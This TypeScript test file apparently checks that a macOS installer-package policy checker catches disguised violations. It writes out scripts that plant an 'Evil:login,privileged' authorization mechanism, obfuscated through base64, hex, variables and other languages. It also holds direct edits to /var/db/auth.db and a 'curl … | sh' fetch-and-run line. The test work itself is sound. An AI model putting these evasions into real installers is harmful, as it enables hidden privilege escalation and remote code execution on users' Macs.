import { gzipSync } from 'node:zlib';
import { fromBuffer } from '../../src/base/bytes.ts';
import type { FileEntry } from '../../src/tree/entry.ts';
import { assemble, changeEntry, packScripts, withPayload } from '../mutation/sample.ts';
import type { Attack } from './attack.ts';
import { DEMANDS, file, folder, forbidden, forbiddenElement, policyAttack, withEntries } from './policy-attack.ts';
import { withText } from './rebuild.ts';

const END = '</installer-gui-script>';

/** The same demand of a policy, walked around by writing things in another way. */
export function spellingAttacks(): Attack[] {
  return [...scriptTexts(), ...payloadTexts(), ...versions(), ...documents(), ...firstLines()];
}

function scriptTexts(): Attack[] {
  const script = (name: string, text: string, expect = /names the mechanism (.* )?Evil:login/, first = '#!/bin/sh') =>
    policyAttack(`a script with ${name}`, DEMANDS.mechanisms, expect, async (sample) =>
      assemble(sample, { scripts: await packScripts([...sample.scripts, file('./helper', `${first}\n${text}\n`)]) }),
    );
  const write = 'security authorizationdb write system.login.console';
  const entry = 'Evil:login,privileged';
  const base64 = (text: string) => Buffer.from(text).toString('base64');
  const handed = /runs what another program hands to a shell/;
  return [
    script('a colon from a variable', `C=:; P=privileged\n${write} "Evil\${C}login,$P"`),
    script('a variable that is set twice', `C=x; C=:\n${write} "Evil\${C}login"`),
    script('a variable from a variable', `A=Evil; B="$A:login"\n${write} "$B"`),
    script('the tool’s name from variables', `X=authoriz; Y="\${X}ationdb"\nsecurity $Y write x Evil:login`),
    script('an entry from printf', `${write} "$(printf '%s:%s,%s' Evil login privileged)"`),
    script('an entry in base64', `echo ${base64(entry)} | base64 -D >x; ${write} <x`),
    script('an entry in hexadecimal digits', `echo ${Buffer.from(entry).toString('hex')} | xxd -r -p >x; ${write} <x`),
    script('a whole command in base64', `echo ${base64(`${write} ${entry}`)} >x`),
    script('characters by hexadecimal numbers', `${write} "$(printf '\\x45vil\\x3alogin')"`),
    script('characters by octal numbers', `${write} $'Evil\\072login'`),
    script('an entry on several lines', `${write} Ev\\\nil:\\\nlog\\\nin`),
    script('the tool’s name in capitals', 'SECURITY AUTHORIZATIONDB WRITE x Evil:login'),
    script(
      'texts joined by Python',
      'x = "Evil" + ":" + "login"\nrun("authorizationdb", x)',
      undefined,
      '#!/usr/bin/python3',
    ),
    script(
      'texts joined by AppleScript',
      'do shell script "authorizationdb " & "Evil" & ":" & "login"',
      undefined,
      '#!/usr/bin/osascript',
    ),
    script(
      'a character by its number in Perl',
      'system("authorizationdb Evil".chr(58)."login")',
      undefined,
      '#!/usr/bin/perl',
    ),
    script(
      'the database itself',
      'sqlite3 /var/db/auth.db "insert into mechanisms values (1)"',
      /names the database of rights itself/,
    ),
    script(
      'the database’s name in parts',
      `D=/var/db; sqlite3 $D/auth''.db "x"`,
      /names the database of rights itself/,
    ),
    script('a text that it evaluates', `x=a; eval "$x"`, /runs a text that it puts together \(eval\)/),
    script('a download for a shell', 'curl -s https://example.com/x | sh', handed),
    script('its own rest for a shell', 'tail -c +99 "$0" | gunzip |\n /bin/bash', handed),
    script(
      'data behind its text',
      'tail -c +99 "$0" >x; exit 0\n\u0000\u0001',
      /a script that carries data behind its text/,
    ),
  ];
}

function payloadTexts(): Attack[] {
  const payload = (
    name: string,
    data: Buffer | string,
    expect: RegExp,
    policy: Attack['policy'] = DEMANDS.mechanisms,
  ) => policyAttack(name, policy ?? {}, expect, (sample) => withEntries(sample, file('./x', data)));
  const list = (text: string) =>
    `<?xml version="1.0"?><plist><dict><key>mechanisms</key><array>${text}</array></dict></plist>`;
  const names = /Payload: \.\/x names the mechanism Evil:login/;
  const tar = Buffer.alloc(1024);
  tar.write('ustar', 257);
  const image = Buffer.concat([Buffer.alloc(2048), Buffer.from('koly'), Buffer.alloc(508)]);
  return [
    payload('a payload file in UTF-16', Buffer.from('<string>Evil:login,privileged</string>', 'utf16le'), names),
    payload(
      'a payload file in UTF-16 of the other order',
      Buffer.from('Evil:login,privileged', 'utf16le').swap16(),
      names,
    ),
    payload(
      'a property list with characters by numbers',
      list('<string>Evil&#58;login&#x2c;privileged</string>'),
      names,
    ),
    payload('a property list with a marked section', list('<string><![CDATA[Evil:login]]></string>'), names),
    payload(
      'a compressed payload file',
      gzipSync('Evil:login'),
      /\.\/x is gzip-compressed data, which was not looked into/,
    ),
    payload(
      'a zip in the payload, and only a team asked for',
      'PK\u0003\u0004...',
      /\.\/x is a zip archive, which/,
      DEMANDS.team,
    ),
    payload('a tar archive in the payload', tar, /\.\/x is a tar archive, which/, DEMANDS.team),
    payload('a disk image in the payload', image, /\.\/x is a disk image, which/, DEMANDS.team),
  ];
}

function versions(): Attack[] {
  const list = (text: string) => `<plist version="1.0"><dict>${text}</dict></plist>`;
  const newer = (key: string) => list(`<key>${key}</key><string>99.0</string>`);
  const info = (name: string, path: string, text: string, expect: RegExp) =>
    policyAttack(name, DEMANDS.macOS, expect, (sample) =>
      withEntries(
        sample,
        folder('./B.bundle'),
        folder('./B.bundle/Contents'),
        file(`./B.bundle/Contents/${path}`, text),
      ),
    );
  const document = (name: string, from: string, to: string, expect: RegExp) =>
    policyAttack(name, DEMANDS.macOS, expect, (sample) => withText(sample, 'distribution', from, to));
  const key = 'LSMinimumSystemVersion';
  return [
    info('an Info.plist for the platform', 'Info-macos.plist', newer(key), /Info-macos\.plist asks for macOS 99\.0/),
    info('an Info.plist in small letters', 'info.plist', newer(key), /info\.plist asks for macOS 99\.0/),
    info('a key for the platform', 'Info.plist', newer(`${key}-macos`), /Info\.plist asks for macOS 99\.0/),
    info(
      'a version that is a number',
      'Info.plist',
      list(`<key>${key}</key><integer>99</integer>`),
      /"99", which is none|asks for macOS 99/,
    ),
    info(
      'versions by architecture that are text',
      'Info.plist',
      newer(`${key}ByArchitecture`),
      /by architecture are not a dictionary/,
    ),
    document(
      'a bundle that the Mac must have',
      END,
      `<required-bundles><bundle id="com.apple.x"/></required-bundles>${END}`,
      /without the bundle com\.apple\.x/,
    ),
    document(
      'a format that no Installer knows',
      'minSpecVersion="2"',
      'minSpecVersion="99"',
      /the format 99, which none knows/,
    ),
    document(
      'a version in other capitals',
      END,
      `<volume-check><OS-Version Min="99.0"/></volume-check>${END}`,
      /Installer asks for macOS 99\.0/,
    ),
  ];
}

function documents(): Attack[] {
  const twice = /^package-contents: .* in any capitals, found another/;
  return [
    forbiddenElement('javaScript', '<Script>f()</Script>'),
    forbiddenElement('javaScript', '<installation-check Script="f()"/>'),
    forbiddenElement('javaScript', '<locator><search id="a" type="script"><script>f()</script></search></locator>'),
    forbiddenElement('customLocation', '<choice id="x" customlocation="/tmp"/>'),
    forbiddenElement('restart', '<pkg-ref id="x" onconclusion="RequireRestart"/>'),
    forbiddenElement('externalPackages', '<pkg-ref id="x" location="https://example.com/x.pkg"/>'),
    forbiddenElement('externalPackages', '<pkg-ref id="x">../x.pkg#com.example.tool.pkg</pkg-ref>'),
    forbidden('otherScripts', 'packageInfo', '</pkg-info>', '<postinstall file="./x"/></pkg-info>'),
    forbidden('otherScripts', 'packageInfo', '<postinstall ', '<postinstall component-ID="x" '),
    forbidden('externalRoot', 'packageInfo', '<payload ', '<payload External-Root="/tmp" '),
    forbidden('relocate', 'packageInfo', 'relocatable="false"', 'relocatable="true"'),
    policyAttack('a choice above others with a place of its own', DEMANDS.paths, /\/etc.* is not allowed/, (sample) =>
      withText(sample, 'distribution', '<choice id="default"/>', '<choice id="default" customLocation="/etc"/>'),
    ),
    policyAttack('a place of its own in small letters', DEMANDS.paths, /\/etc.* is not allowed/, (sample) =>
      withText(sample, 'distribution', '<choice id="default"/>', '<choice id="default" customlocation="/etc"/>'),
    ),
    policyAttack('a restart behind the same word in capitals', { forbid: ['restart'] }, twice, (sample) =>
      withText(
        sample,
        'packageInfo',
        /postinstall-action="none"/,
        'postinstall-action="restart" Postinstall-Action="none"',
      ),
    ),
    policyAttack('JavaScript behind the same word in capitals', { forbid: ['javaScript'] }, twice, (sample) =>
      withText(sample, 'distribution', '<choice id="default"/>', '<choice id="default" visible="f()" VISIBLE="true"/>'),
    ),
    ...(['info.plist', 'Info-macos.plist'] as const).map(
      (name): Attack => ({
        name: `stranger: a bundle with ${name}`,
        on: 'stranger',
        expect: new RegExp(`^one-meaning: .*${name}`),
        make: ({ stranger }) =>
          withPayload(stranger, [
            ...stranger.payload,
            folder('./B.bundle'),
            folder('./B.bundle/Contents'),
            file(`./B.bundle/Contents/${name}`, '<plist><dict/></plist>'),
          ]),
      }),
    ),
  ];
}

/** First lines that no Mac can run. */
function firstLines(): Attack[] {
  const line = (name: string, text: string | Buffer, expect: RegExp): Attack => ({
    name: `stranger: a script that ${name}`,
    on: 'stranger',
    expect,
    async make({ stranger }) {
      const source = fromBuffer(Buffer.from(text));
      const scripts = changeEntry(stranger.scripts, './postinstall', (entry) => ({ ...entry, source }) as FileEntry);
      return assemble(stranger, { scripts: await packScripts(scripts) });
    },
  });
  return [
    line('asks for /bin/env', '#! /bin/env sh\nexit 0\n', /\/bin\/env: macOS has none there/),
    line('asks for a shell in /usr/local', '#!/usr/local/bin/bash\nx\n', /\/usr\/local\/bin\/bash/),
    line('asks for a shell in capitals', '#!/BIN/SH\nx\n', /\/BIN\/SH/),
    line('has a vertical tab before its interpreter', '#!\u000b/bin/sh\nx\n', /not an absolute path/),
    line(
      'has a hard blank behind its interpreter',
      Buffer.from('#!/bin/sh\xa0\nx\n', 'latin1'),
      /names the interpreter \/bin\/sh/,
    ),
    line('begins with an empty line', '\n#!/bin/sh\nx\n', /has no #! line/),
    line('asks env for nothing but a variable', '#!/usr/bin/env X=1\nx\n', /names no interpreter/),
    line('names a folder', '#!/bin\nx\n', /names the interpreter \/bin/),
    line('is a Linux program', Buffer.from('7f454c46020101', 'hex'), /has no #! line/),
  ];
}
